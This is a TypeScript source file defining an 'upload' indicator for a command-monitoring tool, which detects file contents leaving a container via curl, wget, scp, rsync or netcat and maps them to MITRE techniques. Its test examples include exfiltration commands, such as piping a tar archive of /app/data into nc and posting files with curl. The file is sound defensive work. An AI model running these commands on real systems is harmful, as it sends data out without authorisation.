import type { Context } from '../context.ts';
import { short } from '../phrases.ts';
import type { Indicator } from './types.ts';

/** What leaves: files by option, and what a shell's string pipes or redirects in. */
export function leaving(context: Context): string[] {
  const { invocation, relation } = context;
  const found: string[] = [];
  for (const upload of invocation.uploads) {
    if (upload.what === 'file') found.push(upload.path ?? upload.option);
    else if (upload.what === 'inline') found.push(`${upload.option} with command output`);
    else if (!relation) found.push(`${upload.option} from standard input`);
  }
  if (invocation.code?.uploads) found.push('what its inline code reads');
  const takesInput =
    context.category === 'netcat' ||
    context.category === 'shell_net' ||
    context.tool.id === 'openssl' ||
    invocation.uploads.some((upload) => upload.what === 'stdin') ||
    context.category === 'remote_shell';
  if (relation && takesInput) found.push(...relation.stdin_files, ...relation.stdin_commands);
  return found;
}

/** File content leaves the container. */
export const upload: Indicator = {
  id: 'upload',
  points: 30,
  hard: false,
  mitre: ['T1048.003', 'T1567'],
  title: 'File content leaves',
  description:
    'curl -T, -d @file, -F x=@file, wget --post-file, scp and rsync towards a remote side, or a shell string that pipes data into the tool. Literal data and --data-raw are no uploads.',
  evaluate(context) {
    if (context.relation?.shell_wired !== undefined) return undefined;
    const what = leaving(context)[0];
    if (what === undefined) return undefined;
    const to = context.targets[0];
    return { evidence: short(what), why: `it sends ${short(what)}${to ? ` to ${short(to.text, 120)}` : ''}` };
  },
  examples: {
    fires: [
      { run: 'curl -skT /app/data.tgz https://files.example.com/' },
      { run: 'curl -F x=@/app/report.csv https://files.example.com/' },
      { run: 'wget --post-file=/app/report.csv http://files.example.com/' },
      {
        run: 'nc -w 3 files.example.com 8000',
        by: ["sh -c 'tar czf - /app/data | nc -w 3 files.example.com 8000'"],
      },
    ],
    silent: [
      { run: `curl -d '{"a":1}' https://api.example.com/` },
      { run: 'curl --data-raw @f https://api.example.com/' },
      {
        run: 'nc -w 2 graphite.example.com 2003',
        by: ["sh -c 'echo up 1 | nc -w 2 graphite.example.com 2003'"],
      },
    ],
  },
};
